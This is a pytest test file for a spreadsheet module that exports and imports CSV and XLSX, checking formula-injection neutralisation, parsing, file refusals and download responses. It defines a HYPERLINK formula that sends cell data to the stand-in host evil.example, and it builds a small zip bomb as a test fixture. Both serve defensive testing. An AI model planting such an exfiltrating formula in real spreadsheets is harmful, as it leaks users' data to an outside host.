"""touchline.spreadsheets: writing and reading CSV and XLSX, formula injection, refusals.

No database here: the rosters' and fixtures' imports are tested in their
own folders (tests/rosters/test_importing.py, tests/fixtures/test_importing.py).
"""
import csv
import datetime
import io
import pathlib
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from pyramid import testing

from touchline import spreadsheets
from touchline.spreadsheets import (
    FORMATS,
    ROW_NUMBER,
    ImportColumn,
    SpreadsheetError,
    neutralise,
    read_table,
    restore,
    spreadsheet_response,
    write_table,
)

DOCS = pathlib.Path(__file__).resolve().parent.parent / "docs" / "spreadsheets.md"
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click me")'


# Formula injection -----------------------------------------------------------------------------


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"),
    ("+44 7700 900123", "'+44 7700 900123"),
    ("-5", "'-5"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    (HYPERLINK, "'" + HYPERLINK),
    ("'=1+1", "''=1+1"),  # so that restore() gives it back exactly
    ("Sam", "Sam"),
    ("'Sam", "'Sam"),
    ("O'Neill", "O'Neill"),
    (" =1", " =1"),
    ("", ""),
    ("'", "'"),
    (7, 7),
    (-5, -5),
    (None, None),
    (True, True),
    (datetime.date(2026, 11, 28), datetime.date(2026, 11, 28)),
])
def test_neutralise_and_restore(value, expected):
    assert neutralise(value) == expected
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value, expected", [
    ("'Sam", "'Sam"), ("'", "'"), ("''", "''"), ("'7", "'7"), ("O'Neill", "O'Neill"),
    ("'=x", "=x"), ("''=x", "'=x"), ("'-", "-"), ("'@", "@"),
])
def test_restore_drops_only_an_apostrophe_before_a_formula(value, expected):
    assert restore(value) == expected


# Writing and reading back ----------------------------------------------------------------------

COLUMNS = ["name", "note", "number", "flag", "day", "time", "empty"]
ROWS = [
    ["Zoë Ødegaard", HYPERLINK, 7, True, datetime.date(2026, 11, 28), datetime.time(10, 30), None],
    ["+44 7700 900123", "-5", -5, False, datetime.date(2027, 3, 28), datetime.time(9, 5, 30), ""],
    ["@home", "\tTabbed", 0, None, None, None, "line one\nline two"],
    ["Semi; colon, comma \"quoted\"", "'=already", 99, True, None, None, "名古屋"],
]
#: What every row reads back as: text, the formulas given back as they were typed.
EXPECTED = [
    {"name": "Zoë Ødegaard", "note": HYPERLINK, "number": "7", "flag": "yes", "day": "2026-11-28",
     "time": "10:30", "empty": "", ROW_NUMBER: 2},
    {"name": "+44 7700 900123", "note": "-5", "number": "-5", "flag": "no", "day": "2027-03-28",
     "time": "09:05:30", "empty": "", ROW_NUMBER: 3},
    {"name": "@home", "note": "\tTabbed", "number": "0", "flag": "", "day": "", "time": "",
     "empty": "line one\nline two", ROW_NUMBER: 4},
    {"name": "Semi; colon, comma \"quoted\"", "note": "'=already", "number": "99", "flag": "yes",
     "day": "", "time": "", "empty": "名古屋", ROW_NUMBER: 5},
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_table_reads_back_as_written(fmt):
    data = write_table(COLUMNS, ROWS, fmt)
    assert read_table(data, f"export.{fmt}") == EXPECTED
    assert read_table(data, f"export.{fmt}", columns=COLUMNS) == EXPECTED


def test_csv_is_utf8_with_a_bom_every_cell_quoted_formulas_neutralised():
    data = write_table(COLUMNS, ROWS, "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.startswith('"name","note","number","flag","day","time","empty"\r\n')
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][:4] == ["Zoë Ødegaard", "'" + HYPERLINK, "7", "yes"]
    assert rows[2][:3] == ["'+44 7700 900123", "'-5", "-5"]  # the number -5 is no text: unchanged
    assert rows[3][:2] == ["'@home", "'\tTabbed"]
    # No cell of the file starts with a formula character, but for a number.
    for row in rows:
        for cell in row:
            assert not cell.startswith(spreadsheets.FORMULA_TRIGGERS) or re.fullmatch(r"-\d+", cell)


def test_xlsx_stores_text_as_text_never_a_formula():
    data = write_table(COLUMNS, ROWS, "xlsx")
    workbook = load_workbook(io.BytesIO(data))  # not read-only: the cells' types and styles
    sheet = workbook.worksheets[0]
    assert [cell.value for cell in sheet[1]] == COLUMNS
    assert all(cell.font.b for cell in sheet[1])
    note = sheet["B2"]
    assert note.value == "'" + HYPERLINK and note.data_type == "s" and note.number_format == "@"
    assert sheet["C2"].value == 7 and sheet["C2"].data_type == "n"
    assert sheet["E2"].is_date and sheet["E2"].value == datetime.datetime(2026, 11, 28)
    assert sheet["E2"].number_format == "yyyy-mm-dd"
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    # In the file itself: no <f> (formula) element at all.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml


def test_write_table_accepts_import_columns_and_refuses_an_unknown_format():
    columns = [ImportColumn("team", True), ImportColumn("note")]
    assert read_table(write_table(columns, [["Owls", ""]], "csv"), "a.csv") == [
        {"team": "Owls", "note": "", ROW_NUMBER: 2}]
    with pytest.raises(ValueError):
        write_table(columns, [], "ods")


def test_xlsx_writes_what_excel_cannot_hold_safely():
    aware = datetime.datetime(2026, 11, 28, 10, 30, tzinfo=datetime.timezone.utc)
    data = write_table(["a", "b", "c"], [[aware, "bell\x07here", datetime.datetime(2026, 1, 2, 3, 4)]], "xlsx")
    assert read_table(data, "a.xlsx") == [
        {"a": "2026-11-28T10:30:00+00:00", "b": "bell\ufffdhere", "c": "2026-01-02 03:04", ROW_NUMBER: 2}]


# Reading what people make -----------------------------------------------------------------------


def xlsx(rows):
    """An XLSX file as a spreadsheet application would save ``rows`` (typed cells)."""
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_date_time_and_number_cells_become_text():
    data = xlsx([
        ["Date", "Time", "Number", "Float", "Decimal", "Flag"],
        [datetime.date(2026, 11, 28), datetime.time(10, 30), 7, 7.0, 2.5, True],
        [datetime.datetime(2026, 11, 28, 14, 15), datetime.time(9, 0, 15), 2015, 1e3, None, False],
    ])
    assert read_table(data, "club.xlsx") == [
        {"date": "2026-11-28", "time": "10:30", "number": "7", "float": "7", "decimal": "2.5",
         "flag": "yes", ROW_NUMBER: 2},
        {"date": "2026-11-28 14:15", "time": "09:00:15", "number": "2015", "float": "1000",
         "decimal": "", "flag": "no", ROW_NUMBER: 3},
    ]


def test_xlsx_formula_cells_give_their_computed_value_never_the_formula():
    data = xlsx([["a", "b"], [2, "=A2*3"]])
    # openpyxl cannot compute: a formula without a cached value reads as empty, not as "=A2*3".
    assert read_table(data, "f.xlsx") == [{"a": "2", "b": "", ROW_NUMBER: 2}]


def test_headers_are_normalised_blank_rows_skipped_row_numbers_kept():
    data = xlsx([[" First Name ", "Home/Away", "SHIRT-number"], ["Sam", "home", 7], [None, None, None],
                 [], ["Ava", "away", None]])
    assert read_table(data, "Players.XLSX") == [
        {"first_name": "Sam", "home_away": "home", "shirt_number": "7", ROW_NUMBER: 2},
        {"first_name": "Ava", "home_away": "away", "shirt_number": "", ROW_NUMBER: 5},
    ]


@pytest.mark.parametrize("text", [
    "name;age\r\nZoë;7\r\n",
    "\ufeffname,age\nZoë,7\n",
    "name,age\n\n,\nZoë,7\n",
])
def test_csv_commas_or_semicolons_with_or_without_a_bom(text):
    table = read_table(text.encode("utf-8"), "list.csv")
    assert [{k: v for k, v in row.items() if k != ROW_NUMBER} for row in table] == [{"name": "Zoë", "age": "7"}]


def test_csv_row_numbers_follow_the_records_not_the_lines():
    text = 'name,note\nSam,"two\nlines"\n\nAva,x\n'
    assert [row[ROW_NUMBER] for row in read_table(text.encode(), "a.csv")] == [2, 4]


def test_optional_columns_may_be_left_out():
    columns = [ImportColumn("team", True), ImportColumn("venue")]
    assert read_table(b"team\nOwls\n", "a.csv", columns) == [{"team": "Owls", "venue": "", ROW_NUMBER: 2}]


# Refusals ---------------------------------------------------------------------------------------


def refusal(data, filename, columns=None, **kwargs):
    with pytest.raises(SpreadsheetError) as caught:
        read_table(data, filename, columns, **kwargs)
    return caught.value.message


COLUMNS_NEEDED = [ImportColumn("team", True), ImportColumn("first_name", True), ImportColumn("position")]


def test_unknown_extensions_are_refused():
    assert "Only .csv and .xlsx files can be imported" in refusal(b"team\nOwls\n", "players.txt")
    assert "save it as \"Excel workbook (.xlsx)\"" in refusal(b"\xd0\xcf\x11\xe0", "players.xls")
    assert "Only .csv and .xlsx" in refusal(b"team\nOwls\n", "players")


def test_a_file_that_is_not_what_it_claims_is_refused():
    workbook = xlsx([["team"], ["Owls"]])
    assert refusal(workbook, "players.csv").startswith("This file is an Excel workbook, not CSV text")
    assert refusal(b"team\nOwls\n", "players.xlsx") == (
        "This file is not an Excel workbook, though its name ends in .xlsx.")
    assert "old Excel file (.xls)" in refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "p.xlsx")
    assert refusal(workbook[:200], "players.xlsx") == "This file is not an Excel workbook, or it is damaged."
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    assert refusal(buffer.getvalue(), "players.xlsx") == "This file is not an Excel workbook, or it is damaged."
    assert refusal(b"team\x00\x01\x02", "players.csv") == "This file is not CSV text, though its name ends in .csv."
    assert "is not in UTF-8" in refusal("team\nZoë\n".encode("latin-1"), "players.csv")


def test_empty_files_are_refused():
    assert refusal(b"", "players.csv") == "The file is empty."
    assert refusal(b"", "players.xlsx") == "The file is empty."
    assert refusal(b"\n\n", "players.csv") == "The first row must name the columns, but it is empty."
    assert refusal(xlsx([]), "players.xlsx") == "The first row must name the columns, but it is empty."
    assert refusal(b"team,first_name\n", "players.csv") == "The file has no rows under its first row."
    assert refusal(xlsx([["team"], [None]]), "players.xlsx") == "The file has no rows under its first row."


def test_missing_and_unknown_columns_are_named():
    assert refusal(b"team,position\nOwls,forward\n", "p.csv", COLUMNS_NEEDED) == (
        "The file has no column first_name, which is required. "
        "The columns are: team, first_name, position.")
    assert refusal(b"position\nforward\n", "p.csv", COLUMNS_NEEDED).startswith(
        "The file has no column team and first_name, which are required.")
    assert refusal(b"team,first_name,colour,Size\nOwls,Sam,red,M\n", "p.csv", COLUMNS_NEEDED) == (
        "The file has columns this import does not know: colour and size. "
        "The columns are: team, first_name, position.")
    assert refusal(b"team,first_name,colour\nOwls,Sam,red\n", "p.csv", COLUMNS_NEEDED).startswith(
        "The file has a column this import does not know: colour.")


def test_a_column_twice_or_a_value_without_a_column_is_refused():
    assert refusal(b"team,Team\nOwls,Owls\n", "p.csv") == "The column team appears twice in the first row."
    assert refusal(b"team,,x\nOwls,,1\nOwls,oops,2\n", "p.csv") == (
        "Row 3 has a value in column B, which has no name in the first row: name the column, or empty it.")
    assert refusal(b"team\nOwls,extra\n", "p.csv").startswith("Row 2 has a value in column B")
    # Empty cells past the header are fine (spreadsheets often have them).
    assert read_table(b"team,\nOwls,\n", "p.csv") == [{"team": "Owls", ROW_NUMBER: 2}]


def test_files_over_the_row_limit_are_refused():
    assert spreadsheets.MAX_ROWS == 5000
    many = "team\n" + "Owls\n" * 5001
    assert refusal(many.encode(), "p.csv") == "The file has more than 5,000 rows: split it into smaller files."
    assert len(read_table(("team\n" + "Owls\n" * 5000).encode(), "p.csv")) == 5000
    assert refusal(xlsx([["team"]] + [["Owls"]] * 4), "p.xlsx", max_rows=3) == (
        "The file has more than 3 rows: split it into smaller files.")


def test_a_zip_bomb_is_refused_before_it_is_unpacked(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 10_000)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", " " * 1_000_000)
    assert len(buffer.getvalue()) < 10_000
    assert refusal(buffer.getvalue(), "p.xlsx") == "This workbook is too large to import: split it into smaller files."


# Responses ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_spreadsheet_response(fmt):
    request = testing.DummyRequest()
    response = spreadsheet_response(request, ["name"], [["Sam"]], fmt, "players")
    assert response.content_type == FORMATS[fmt].content_type == FORMATS[fmt]["content_type"]
    assert FORMATS[fmt]["extension"] == f".{fmt}"
    assert response.headers["Content-Disposition"] == f'attachment; filename="players.{fmt}"'
    if fmt == "csv":
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    else:
        assert "charset" not in response.headers["Content-Type"]
    assert read_table(response.body, f"players.{fmt}") == [{"name": "Sam", ROW_NUMBER: 2}]


def test_spreadsheet_response_with_a_name_beyond_ascii():
    response = spreadsheet_response(testing.DummyRequest(), ["a"], [], "csv", 'Ünder 9 "Bädgers".csv')
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="nder-9-B-dgers-.csv"; '
        "filename*=UTF-8''%C3%9Cnder%209%20%22B%C3%A4dgers%22.csv")


# The documentation ---------------------------------------------------------------------------------


def test_every_import_column_is_documented():
    from touchline.fixtures.importing import FixtureImporter
    from touchline.rosters.importing import PlayerImporter

    text = DOCS.read_text()
    for importer in (PlayerImporter, FixtureImporter):
        section = text.split(f"<!-- columns: {importer.kind} -->", 1)[1].split("<!-- end -->", 1)[0]
        documented = [line.split("|")[1].strip().strip("`") for line in section.splitlines()
                      if line.startswith("| `")]
        assert documented == [column.name for column in importer.columns]
        for column in importer.columns:
            row = next(line for line in section.splitlines() if line.startswith(f"| `{column.name}`"))
            assert ("yes" if column.required else "no") == row.split("|")[2].strip()
